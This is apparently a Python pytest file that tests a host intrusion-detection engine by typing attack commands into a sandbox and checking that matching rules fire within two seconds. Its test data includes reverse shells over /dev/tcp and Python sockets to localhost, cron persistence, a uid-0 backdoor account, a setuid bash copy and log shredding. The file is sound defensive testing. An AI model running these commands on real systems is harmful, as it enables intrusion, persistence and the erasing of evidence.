"""From the real tool to the match: typed in the sandbox, seen by helper and sensors, found by the engine."""

from __future__ import annotations

import time
from functools import partial
from pathlib import Path

import pytest

from collector.detection.engine import Engine
from collector.detection.load import load
from tests.rules.samples import RULES
from tests.rules.sandbox import ACCOUNT, PASSWORD, Sandbox
from tests.rules.steps.step import LISTENER, SSH
from tests.rules.watch import Watch

pytestmark = [pytest.mark.root, pytest.mark.usefixtures("audit")]

SECONDS = 2.0
"""Within which an act must be known."""

ACTS = {
    "shell_on_network_device": ("bash -c 'bash -i >& /dev/tcp/127.0.0.1/22 0>&1' </dev/null",),
    "shell_forced_interactive": (LISTENER.replace("nc.traditional -lp", "nc.openbsd -lp"),
                                 "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"),
    "shell_on_script_socket": (
        "python3 -c 'import socket,subprocess as s;c=socket.create_connection((\"127.0.0.1\",22));"
        "s.call([\"sh\",\"-c\",\"true\"],stdin=c.fileno())'",
    ),
    "cron_job_written_by_command": ("sh -c 'echo \"* * * * * root id\" > /etc/cron.d/viec'",),
    "cron_job_written_by_shell": ("echo '* * * * * root id' > /etc/cron.d/viec2",),
    "account_with_root_powers": ("useradd -o -u 0 -g 0 -M quantri2",),
    "setuid_bit_set": ("cp /bin/bash /tmp/.b; chmod u+s /tmp/.b",),
    "program_run_from_temporary_place": ("cp /bin/ls /tmp/l; /tmp/l /",),
    "system_logs_erased": ("touch /var/log/wtmp; shred -u /var/log/wtmp",),
    "ssh_login_failed": (f"{SSH} -o NumberOfPasswordPrompts=1 {ACCOUNT}@localhost true", "sai-1"),
    "ssh_login_unknown_account": (f"{SSH} -o NumberOfPasswordPrompts=1 oracle@localhost true", "sai-1"),
    "sudo_not_permitted": (f"su - {ACCOUNT}", "sudo id", PASSWORD, "exit"),
    "su_to_root_refused": (f"su - {ACCOUNT}", "su -", "sai-1", "exit"),
}  # fmt: skip


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(load([RULES]))


def test_acts_are_known_within_seconds(engine: Engine, reachable: Path) -> None:
    logs = reachable / "log"
    logs.mkdir()
    late = {}
    with Watch(reachable, logs) as watch, Sandbox(logs) as sandbox:
        sandbox.watch(["/etc"])
        for rule, lines in ACTS.items():
            before = len(watch.events)
            sandbox.type(lines)
            done = time.monotonic()
            watch.wait_for(partial(_is_known, engine, watch, before, rule), f"{rule} after {lines}")
            late[rule] = time.monotonic() - done
    assert {rule: seconds for rule, seconds in late.items() if seconds > SECONDS} == {}


def _is_known(engine: Engine, watch: Watch, since: int, rule: str) -> bool:
    return any(
        Path(match.rule.file).stem == rule
        for event in watch.events[since:]
        for match in engine.match(event.fields, event.source)
    )
